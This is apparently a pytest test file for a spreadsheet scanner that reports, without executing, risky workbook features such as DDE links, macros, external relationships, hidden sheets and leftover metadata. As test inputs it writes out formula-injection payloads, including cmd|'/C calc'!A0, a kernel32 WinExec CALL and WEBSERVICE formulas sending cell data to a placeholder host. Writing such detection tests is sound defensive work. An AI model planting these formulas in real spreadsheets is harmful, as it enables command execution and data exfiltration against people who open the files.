"""What a spreadsheet would do in another program is told, and none of it is done (SAFETY S11)."""

import datetime as dt
import importlib.util
import io
import pathlib
import struct

import pytest
import xlsxwriter

from leakverify.model.tripwire import FileProperty, Property, Trap
from leakverify.sources.workbooks.workbook_formula import calls_out, is_dde

_SPEC = importlib.util.spec_from_file_location(
    "makers_book", pathlib.Path(__file__).parents[2] / "hostile" / "makers_book.py"
)
book = importlib.util.module_from_spec(_SPEC)
_SPEC.loader.exec_module(book)

ROWS = "".join(
    f'<row r="{r}"><c r="A{r}"><v>{r}</v></c><c r="B{r}" t="str"><v>name {r}</v></c></row>'
    for r in range(1, 6)
)


def traps(got):
    return {wire.trap: wire.count for wire in got.file.tripwires}


def named(got, trap):
    return next(wire.rows for wire in got.file.tripwires if wire.trap is trap)


def rel(kind, target, mode=' TargetMode="External"'):
    return (
        f'<Relationships {book.RELS}><Relationship Id="r1" Type="{book.OFFICE}/{kind}" '
        f'Target="{target}"{mode}/></Relationships>'
    )


@pytest.mark.parametrize(
    ("part", "content", "trap"),
    [
        ("xl/worksheets/_rels/s.rels", rel("hyperlink", "http://x.example/"), Trap.HYPERLINK),
        ("xl/externalLinks/_rels/e.rels", rel("externalLinkPath", "b.xlsx"), Trap.EXTERNAL_LINK),
        ("xl/drawings/_rels/d.rels", rel("image", "http://x.example/a.png"), Trap.EXTERNAL_LINK),
        ("xl/_rels/t.rels", rel("attachedTemplate", "http://x/t.xltm"), Trap.REMOTE_TEMPLATE),
        ("xl/_rels/t.rels", rel("oleObject", "\\\\host\\a.doc"), Trap.SHARE_PATH),
        ("xl/externalLinks/e.xml", '<x><ddeLink ddeService="cmd"/></x>', Trap.DDE),
        ("xl/connections.xml", "<connections><connection/></connections>", Trap.DATA_CONNECTION),
        ("xl/queryTables/queryTable1.xml", "<queryTable/>", Trap.DATA_CONNECTION),
        ("customXml/item1.xml", "<DataMashup>x</DataMashup>", Trap.DATA_CONNECTION),
        ("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0", Trap.MACRO),
        ("xl/macrosheets/sheet1.xml", "<x/>", Trap.MACRO),
        ("xl/dialogsheets/sheet1.xml", "<x/>", Trap.MACRO),
        ("xl/embeddings/oleObject1.bin", b"\xd0\xcf", Trap.EMBEDDED_OBJECT),
        ("xl/activeX/activeX1.bin", b"\xd0\xcf", Trap.EMBEDDED_OBJECT),
        (
            "xl/names.xml",
            "<w><definedName>cmd|'/C calc'!A0</definedName></w>",
            Trap.DDE,
        ),
    ],
)
def test_parts_of_xlsx(read, part, content, trap):
    got = read(book.bare_xlsx(book.sheet_xml(ROWS), more={part: content}), header=False)
    assert len(got.rows) == 5
    assert traps(got)[trap] == 1


def test_mail_links_are_no_tripwires(read):
    part = {"xl/worksheets/_rels/s.rels": rel("hyperlink", "mailto:a@b.example")}
    assert not read(book.bare_xlsx(book.sheet_xml(ROWS), more=part), header=False).file.tripwires


@pytest.mark.parametrize(
    "formula",
    [
        'WEBSERVICE("http://x.example/"&A1)',
        "_xlfn.WEBSERVICE(A1)",
        '_xlfn.IMAGE("http://x.example/a.png")',
        'HYPERLINK("http://x.example/","y")',
        'RTD("a","b")',
        "FILTERXML(A1,B1)",
        'CALL("kernel32","WinExec","JCJ","calc",1)',
        'REGISTER.ID("a","b")',
        "ENCODEURL(A1)",
        "[1]Sheet1!A1",
        "'C:\\x\\[Book.xlsx]Sheet 1'!A1",
        "'file:///x.ods'#$Sheet1.A1",
        "of:=WEBSERVICE([.A1])",
        "cmd|'/C calc'!A0",
        'DDE("soffice";"a";"b")',
    ],
)
def test_formulas_that_call_out(formula):
    assert calls_out(formula)


@pytest.mark.parametrize(
    "formula",
    ["SUM(A1:A9)", "Table1[Col]+Sheet2!A1", 'IF(A1="x|y",1,2)', "CALLER", "Sheet1!A1", "A1|B1"],
)
def test_formulas_that_merely_compute(formula):
    assert not calls_out(formula)
    assert not is_dde(formula)


def test_formulas_are_shown_and_counted_where_they_stand(read):
    rows = (
        '<row r="1"><c r="A1"><v>1</v></c><c r="B1"><f>A1+1</f></c></row>'
        '<row r="2"><c r="A2"><v>2</v></c><c r="B2"><f>A2&amp;"&lt;"</f><v>7</v></c></row>'
        '<row r="4"><c r="A4"><v>4</v></c><c r="C4"><f>WEBSERVICE("http://x.example")</f><v>5</v></c></row>'
        '<row r="6"><c r="B6" t="e"><f>NA()</f><v>#N/A</v></c></row>'
    )
    for xml in (book.sheet_xml(rows), book.sheet_xml(rows).replace('r="A1"', "r='A1'")):
        got = read(book.bare_xlsx(xml), header=False)
        assert got.rows == [
            ("1", "=A1+1", ""),
            ("2", "7", ""),
            ("4", "", "5"),
            ("", "#N/A", ""),
        ]
        assert traps(got) == {Trap.FORMULA: 3, Trap.CALLING_FORMULA: 1}
        assert named(got, Trap.FORMULA) == (1, 2, 4)
        assert named(got, Trap.CALLING_FORMULA) == (3,)


def test_a_sheet_of_formulas_without_results(read):
    rows = "".join(f'<row r="{r}"><c r="B{r}"><f>A{r}*2</f></c></row>' for r in range(3, 6))
    got = read(book.bare_xlsx(book.sheet_xml(rows)), header=False)
    assert got.rows == [("=A3*2",), ("=A4*2",), ("=A5*2",)]


def hidden_workbook():
    out = io.BytesIO()
    with xlsxwriter.Workbook(out, {"in_memory": True}) as made:
        made.set_properties({"author": "Ann Maker", "company": "Makers Ltd", "title": "List"})
        shown = made.add_worksheet("Shown")
        for row in range(8):
            shown.write_row(row, 0, [row, f"n{row}", "x"])
        shown.set_row(3, None, None, {"hidden": True})
        shown.set_column(2, 2, 10, None, {"hidden": True})
        secret = made.add_worksheet("Secret")
        secret.write_row(0, 0, [1, 2])
        secret.hide()
        deep = made.add_worksheet("Deep")
        deep.write_row(0, 0, [3, 4])
        deep.very_hidden()
    return out.getvalue()


def test_what_is_hidden_is_told_and_read(read):
    got = read(hidden_workbook(), header=False)
    assert len(got.rows) == 8
    assert traps(got) == {Trap.HIDDEN_SHEET: 2, Trap.HIDDEN_ROWS: 1, Trap.HIDDEN_COLUMNS: 1}
    assert named(got, Trap.HIDDEN_ROWS) == (4,)
    assert got.file.tables == ("Shown", "Secret", "Deep")
    assert read(hidden_workbook(), table="Deep", header=False).rows == [("3", "4")]


def test_leftovers_of_the_making(read):
    found = read(hidden_workbook()).file.properties
    assert FileProperty(Property.AUTHOR, "Ann Maker") in found
    assert FileProperty(Property.COMPANY, "Makers Ltd") in found
    assert {p.what for p in found} >= {Property.CREATED, Property.MODIFIED, Property.PROGRAM}


def test_paths_left_in_a_workbook(read):
    listing = (
        f'{book.ROOT}<workbook {book.MAIN} xmlns:r="{book.OFFICE}"><x15ac:absPath '
        'xmlns:x15ac="y" url="C:\\Users\\ann\\leak\\"/><sheets>'
        '<sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>'
    )
    got = read(
        book.bare_xlsx(book.sheet_xml(ROWS), more={"xl/workbook.xml": listing}), header=False
    )
    assert got.file.properties == (FileProperty(Property.PATH, "C:\\Users\\ann\\leak\\"),)


def test_dates_of_1904_errors_rich_and_inline_text(read):
    rows = (
        '<row r="1"><c r="A1" t="inlineStr"><is><r><t>a</t></r><r><t>b</t></r></is></c>'
        '<c r="B1" t="b"><v>1</v></c><c r="C1" t="e"><v>#N/A</v></c><c r="D1" s="1"><v>1</v></c>'
        '<c r="E1"><v>1.5E-7</v></c></row>'
    )
    listing = (
        f'{book.ROOT}<workbook {book.MAIN} xmlns:r="{book.OFFICE}"><workbookPr date1904="1"/>'
        '<sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>'
    )
    styles = (
        f'{book.ROOT}<styleSheet {book.MAIN}><cellXfs><xf numFmtId="0"/>'
        '<xf numFmtId="14" applyNumberFormat="1"/></cellXfs></styleSheet>'
    )
    more = {"xl/workbook.xml": listing, "xl/styles.xml": styles}
    got = read(book.bare_xlsx(book.sheet_xml(rows), more=more), header=False)
    day = dt.date(1904, 1, 2).isoformat()
    assert got.rows == [("ab", "TRUE", "#N/A", day, "1.5e-07")]


def test_open_document_tripwires(read):
    link = '<text:a xlink:href="http://x.example/">x</text:a>'
    rows = book.ods_rows(3) + (
        '<table:table-row table:visibility="collapse"><table:table-cell table:formula="of:=[.A1]+1"/>'
        '<table:table-cell table:formula="of:=WEBSERVICE([.A1])" office:value-type="string">'
        f"<text:p>y{link}</text:p></table:table-cell></table:table-row>"
    )
    before = '<office:scripts><script:event-listener xlink:href="x"/></office:scripts>'
    more = {
        "Basic/Standard/Module1.xml": "<x/>",
        "meta.xml": f"<office:meta {book.ODF} xmlns:meta='m' xmlns:dc='d'>"
        "<meta:initial-creator>Ann</meta:initial-creator></office:meta>",
    }
    got = read(book.ods(rows, before, more), header=True)
    assert got.rows[-1] == ("=[.A1]+1", "yx", "")
    assert traps(got) == {
        Trap.CALLING_FORMULA: 1,
        Trap.FORMULA: 1,
        Trap.MACRO: 1,
        Trap.HYPERLINK: 1,
        Trap.SCRIPT: 1,
        Trap.HIDDEN_ROWS: 1,
    }
    assert got.file.properties == (FileProperty(Property.AUTHOR, "Ann"),)


def test_binary_workbooks(read):
    got = read(book.xlsb())
    assert (got.file.format, got.names, len(got.rows)) == ("xlsb", ("id", "name"), 20)
    hidden = book.record(0, struct.pack("<2IH", 0, 0, 300) + b"\0\x10\0" + struct.pack("<I", 0))
    assert len(read(book.xlsb(hidden + book.record(5, struct.pack("<2Id", 0, 0, 1)))).rows) <= 1
